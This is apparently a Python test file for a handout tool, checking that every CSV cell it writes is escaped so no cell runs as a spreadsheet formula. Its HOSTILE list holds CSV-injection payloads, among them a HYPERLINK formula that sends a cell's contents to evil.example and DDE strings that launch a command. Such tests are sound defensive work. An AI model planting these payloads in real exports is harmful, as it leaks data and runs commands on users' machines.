"""Every CSV the tool writes is safe to open in a spreadsheet: no cell runs as a formula."""

from __future__ import annotations

import csv
from pathlib import Path

from cs_handouts.text.csvcells import csv_text, safe_cell
from tests.conftest import run_cli

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


def test_formula_cells_get_a_leading_apostrophe_and_numbers_stay_numbers() -> None:
    assert [safe_cell(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert safe_cell("Chart paper") == "Chart paper"
    assert safe_cell(-2) == -2
    assert csv_text([["-2+3", 4]]) == "'-2+3,4\r\n"


def test_a_material_named_as_a_formula_is_text_in_print_list_csv(series: Path) -> None:
    module = series / "content" / "modules" / "module4.yaml"
    items = "".join(f"  - {text!r}\n".replace("\t", "\\t") if "\t" not in text
                    else '  - "\\t=1+1"\n' for text in HOSTILE)
    module.write_text(module.read_text(encoding="utf-8").replace(
        "  - reflection-form\n", "  - reflection-form\n" + items, 1), encoding="utf-8")
    run_cli("print", "--all", "--participants", "4", "--project", str(series))
    for path in (series / "output" / "module4" / "print" / "print-list.csv",
                 series / "output" / "print-list.csv"):
        with path.open(encoding="utf-8", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
        names = [text.strip() for text in HOSTILE]  # YAML text is stripped: "=1+1" for the tab
        assert sorted(cell for cell in cells if cell[1:] in names) == sorted("'" + n for n in names)
